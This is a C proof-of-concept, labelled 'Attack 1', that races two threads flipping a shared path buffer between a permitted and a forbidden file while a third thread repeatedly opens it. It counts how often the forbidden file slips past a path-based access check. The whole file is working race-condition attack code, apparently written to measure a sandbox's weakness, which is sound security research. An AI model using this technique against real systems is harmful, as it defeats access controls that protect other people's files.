/* SPDX-License-Identifier: ISC */
/*
 * Attack 1: two threads flip the path between a permitted and a forbidden
 * file while a third opens it. The names differ in their last letter alone,
 * so that each store flips the whole path; the files' first letters say
 * which one was opened.
 *
 * usage: flip path-of-permitted letter-of-forbidden opens
 */
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char path[PATH_MAX];
static volatile char *letter;
static char letters[2];
static atomic_bool over;

static void *
flip(void *p)
{
	unsigned int i = (unsigned int)(p != NULL);

	while (!atomic_load_explicit(&over, memory_order_relaxed))
		*letter = letters[i++ & 1];
	return NULL;
}

int
main(int argc, char *argv[])
{
	unsigned long opens, i, permitted = 0, forbidden = 0, refused = 0;
	unsigned long other = 0;
	pthread_t flippers[2];
	char c;
	int fd;

	if (argc != 4)
		errx(2, "usage: flip path letter opens");
	(void)snprintf(path, sizeof(path), "%s", argv[1]);
	letter = path + strlen(path) - 1;
	letters[0] = *letter;
	letters[1] = argv[2][0];
	opens = strtoul(argv[3], NULL, 10);
	if (pthread_create(&flippers[0], NULL, flip, NULL) != 0 ||
	    pthread_create(&flippers[1], NULL, flip, path) != 0)
		errx(1, "threads");
	for (i = 0; i < opens; i++) {
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd == -1) {
			refused++;
			continue;
		}
		if (read(fd, &c, 1) != 1)
			other++;
		else if (c == 'P')
			permitted++;
		else
			forbidden++;
		close(fd);
	}
	atomic_store(&over, 1);
	(void)pthread_join(flippers[0], NULL);
	(void)pthread_join(flippers[1], NULL);
	printf("permitted %lu\nrefused %lu\nforbidden %lu\nother %lu\n",
	    permitted, refused, forbidden, other);
	return 0;
}
